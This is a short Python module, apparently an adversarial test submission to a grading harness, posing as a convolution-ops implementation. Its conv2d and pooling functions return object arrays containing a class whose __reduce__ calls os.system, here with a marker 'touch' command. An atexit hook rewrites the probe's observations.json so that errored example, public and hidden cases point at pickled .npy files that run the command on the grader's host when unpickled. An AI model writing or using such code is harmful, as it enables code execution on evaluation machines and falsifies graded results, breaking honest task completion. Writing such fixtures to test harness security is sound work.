"""conv_ops: returns object arrays; and once the probe has written its results, rewrites them so that
every conv2d case points at a pickled .npy whose unpickling would run a shell command on the host."""

import atexit
import json
import os

import numpy as np

MARKER = "ADVERSARIAL_object_array_pickle"


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/ADVERSARIAL_pickle_ran",)


def conv2d(x, w, b=None, stride=1, padding=0, dilation=1, groups=1):
    return np.array([Payload()], dtype=object)


def _rewrite():
    with open("/out/observations.json") as file:
        observations = json.load(file)
    for case_id, result in observations["results"].items():
        if case_id.startswith(("example", "public", "hidden")) and "error" in result:
            np.save(f"/out/{case_id}.npy", np.array([Payload(), 1.0], dtype=object), allow_pickle=True)
            observations["results"][case_id] = {"array": case_id, "type": "ndarray"}
    with open("/out/observations.json", "w") as file:
        json.dump(observations, file)


atexit.register(_rewrite)  # runs after the probe wrote observations.json
convolve2d = max_pool2d = avg_pool2d = conv2d


def output_size(n, f, padding=0, stride=1):
    raise NotImplementedError


conv_param_count = output_size
